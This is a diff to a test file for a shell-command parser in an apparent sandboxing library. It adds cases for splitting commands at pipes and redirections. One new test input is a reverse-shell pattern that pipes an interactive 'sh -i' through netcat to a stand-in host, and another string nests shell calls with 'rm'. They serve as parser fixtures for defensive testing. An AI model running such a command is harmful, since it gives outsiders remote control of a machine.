@@ -26,6 +26,7 @@ from sandboxkit.shell._suspects import apart
             ["x", "if a", "then for b in c", "do d", "done", "fi", "if a; then for b in c; do d; done; fi"],
         ),
         ("echo if; b", ["echo if", "b"]),
+        ("a 2>&1 | b >&- & c &>d", ["a 2>&1", "b >&-", "c", ">d"]),
     ],
 )
 def test_text_is_cut_between_commands(text: str, cut: list[str]) -> None:
@@ -42,3 +43,10 @@ def test_what_stands_beside_an_error_is_read() -> None:
     command = parse('x=1; echo ${(e)y} && rm "$x" && sh -c \'bash -c "ls -l"\'')
     assert command.opaque is not None
     assert {("rm", "1"), ("ls", "-l")} <= {part.argv for part in command.parts}
+
+
+def test_a_descriptor_in_place_of_another_ends_no_command() -> None:
+    command = parse("cat f | sh -i 2>&1 | nc host.example 1 > f | echo ${(e)x}")
+    assert command.opaque is not None
+    assert ("sh", "-i") in {part.argv for part in command.parts}
+    assert "1" not in {part.program for part in command.parts}
